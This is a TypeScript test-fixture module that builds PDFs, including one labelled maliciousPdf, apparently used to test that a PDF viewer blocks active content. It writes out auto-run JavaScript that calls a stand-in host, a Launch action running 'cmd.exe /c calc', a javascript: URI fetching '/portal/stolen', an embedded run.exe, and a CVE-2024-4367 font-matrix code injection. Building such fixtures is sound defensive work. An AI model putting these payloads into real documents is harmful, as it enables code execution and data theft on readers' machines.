import PdfDocument from 'pdfkit';

/** A PDF of so many pages, each of which says which one it is; with a password, if one is given. */
export const pdfOfPages = (count: number, userPassword?: string): Promise<Buffer> =>
  new Promise((resolve) => {
    const file = new PdfDocument({ size: 'A4', autoFirstPage: false, compress: false, userPassword });
    const chunks: Buffer[] = [];
    file.on('data', (chunk: Buffer) => chunks.push(chunk));
    file.on('end', () => resolve(Buffer.concat(chunks)));
    for (let page = 1; page <= count; page += 1) file.addPage().fontSize(24).text(`Clause ${page}`);
    file.end();
  });

/** Writes a PDF by hand: what no writer of PDFs would put together. The first object is its root. */
const pdfOfObjects = (objects: string[]): Buffer => {
  let file = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj ${object} endobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  file += `trailer <</Size ${objects.length + 1} /Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
};

const stream = (dictionary: string, content: string): string =>
  `<<${dictionary} /Length ${content.length}>> stream\n${content}\nendstream`;

/** A PDF whose pages are heavy, as scans are: who looks at one needs a few parts of the file only. */
export const heavyPdf = (pages: number): Buffer => {
  const numbers = Array.from({ length: pages }, (_, at) => at);
  const [first, font] = [4, '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>'];
  const sheet = (at: number): string =>
    `<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${first + pages + at} 0 R
      /Resources <</Font <</F1 3 0 R>>>>>>`;
  return pdfOfObjects([
    '<</Type /Catalog /Pages 2 0 R>>',
    `<</Type /Pages /Kids [${numbers.map((at) => `${first + at} 0 R`).join(' ')}] /Count ${pages}>>`,
    font,
    ...numbers.map(sheet),
    ...numbers.map((at) =>
      stream('', `${'%\n'.repeat(300_000)}BT /F1 24 Tf 60 780 Td (Scan ${at + 1}) Tj ET`),
    ),
  ]);
};

/** Where nobody should ever ask for anything. */
export const ELSEWHERE = 'http://elsewhere.example';

const link = (top: number, action: string): string =>
  `<</Type /Annot /Subtype /Link /Rect [50 ${top} 500 ${top + 60}] /Border [0 0 2] /A ${action}>>`;

const SCRIPT = `app.alert('run'); this.submitForm('${ELSEWHERE}/form'); app.launchURL('${ELSEWHERE}/launch');`;

/**
 * A PDF that tries whatever a PDF can: scripts when it opens, when a page opens and in its names; links that call a
 * script, an address, a program, another file; a form that is sent away; a file in it; a font matrix that is code; a
 * shade and a colour for which pdf.js would compile a program, if it were allowed to.
 */
export const maliciousPdf = (): Buffer =>
  pdfOfObjects([
    `<</Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA <</WC 5 0 R /DP 5 0 R>>
      /Names <</JavaScript <</Names [(start) 5 0 R]>> /EmbeddedFiles <</Names [(run.exe) 8 0 R]>>>>
      /AcroForm <</Fields [10 0 R] /NeedAppearances true>>>>`,
    '<</Type /Pages /Kids [3 0 R] /Count 1>>',
    `<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA <</O 5 0 R /C 5 0 R>>
      /Resources <</Font <</F1 6 0 R>> /XObject <</Away 7 0 R>> /ColorSpace <</Own [/ICCBased 12 0 R]>>
        /Shading <</Shade <</ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 99 0] /Function 11 0 R>>>>>>
      /Annots [${[
        link(700, '5 0 R'),
        link(600, `<</S /URI /URI (${ELSEWHERE}/uri)>>`),
        link(500, '<</S /Launch /F (cmd.exe) /Win <</F (cmd.exe) /P (/c calc)>>>>'),
        link(400, `<</S /GoToR /F (\\\\\\\\elsewhere.example\\\\share\\\\a.pdf) /D [0 /Fit]>>`),
        link(300, `<</S /SubmitForm /F <</FS /URL /F (${ELSEWHERE}/submit)>>>>`),
        link(200, '<</S /URI /URI (javascript:fetch\\("/portal/stolen"\\))>>'),
        '10 0 R',
      ].join(' ')}]>>`,
    stream(
      '',
      'BT /F1 24 Tf 60 780 Td (A harmless letter) Tj ET /Away Do /Own cs 1 0 0 sc 10 10 40 40 re f 0 0 99 9 re W n /Shade sh',
    ),
    `<</S /JavaScript /JS (${SCRIPT.replace(/[()\\]/g, '\\$&')})>>`,
    // CVE-2024-4367: what stands in a font's matrix was run as code by old versions of pdf.js.
    `<</Type /Font /Subtype /Type1 /BaseFont /Helvetica
      /FontMatrix [1 0 0 1 0 (0\\); fetch\\('${ELSEWHERE}/font'\\); \\(0)]>>`,
    // A picture whose bytes lie elsewhere.
    stream(
      `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8
        /F <</FS /URL /F (${ELSEWHERE}/picture)>>`,
      'x',
    ),
    '<</Type /Filespec /F (run.exe) /UF (run.exe) /EF <</F 9 0 R>>>>',
    stream('/Type /EmbeddedFile', 'MZ not a program'),
    `<</Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (written) /Rect [50 100 300 140]
      /DA (/Helv 12 Tf 0 g) /AA <</K 5 0 R /F 5 0 R /V 5 0 R /C 5 0 R /Fo 5 0 R /PV 5 0 R>>>>`,
    stream('/FunctionType 4 /Domain [0 1] /Range [0 1]', '{ 2 mul 0.5 exch sub abs }'),
    stream('/N 3 /Alternate /DeviceRGB', 'not a profile of colours'),
  ]);
